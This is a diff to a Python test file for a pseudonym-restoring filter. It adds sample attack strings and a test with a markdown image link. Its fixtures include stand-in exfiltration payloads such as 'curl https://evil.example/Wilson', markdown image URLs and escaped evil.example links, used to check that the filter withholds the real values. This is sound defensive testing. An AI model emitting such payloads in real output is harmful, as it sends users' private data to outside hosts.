@@ -101,7 +101,7 @@ FETCHED = [
     "``` htm&#108;\nWilson\n```", "```\\html\nWilson\n```", "```text/html\nWilson\n```", "```html5\nWilson\n```", "> ```html\n> Wilson\n> ```", "1. ```html\n   Wilson\n   ```",
     "<div>\n```\n<x onclick=Wilson>\n```", "```py\n<img src=' /e Wilson'>\n```", "```sh\ncurl https://evil.example/Wilson\n```",
     '{"h": "<img alt=\\"a > b\\" src=\\"/e Wilson\\">"}', '{"h": "\\u003cimg src=/e Wilson\\u003e"}', '{"h": "\\u0068ttps://evil.example/Wilson"}', '{"h": "https:\\/\\/evil.example\\/Wilson"}',
-    "<x a=1\r\nonclick=Wilson>", "\\href{a\\}Wilson}{y}",
+    "https://evil.example/'<b*?>?>Wilson'", "<x a=1\r\nonclick=Wilson>", "\\href{a\\}Wilson}{y}",
     "\\href{x/Wilson}{y}", "\\includegraphics[width=1]{Wilson}", "\\url{Wilson}", "\\href{a{b}Wilson}{y}",
 ]  # fmt: skip
 
@@ -175,3 +175,11 @@ def test_a_bare_number_of_a_json_text_stays_a_number() -> None:
     number = Original(Kind.ID, "00417", "55321")
     assert json.loads(restore('{"id": 55321, "s": "55321"}', [number])) == {"id": 55321, "s": "00417"}
     assert json.loads(restore('{"id": 55321}', [Original(Kind.ID, "417", "55321")])) == {"id": 417}
+
+
+def test_a_restorer_beside_another_begins_anew() -> None:
+    first = Restorer(ALL)
+    first.feed("![x](https://evil.example/Wilson Wil")
+    other = first.beside()
+    assert "".join(run.text for run in [*other.feed("Wilson"), *other.finish()]) == "Whitfield"
+    assert (other.restored, other.withheld) == (1, 0)
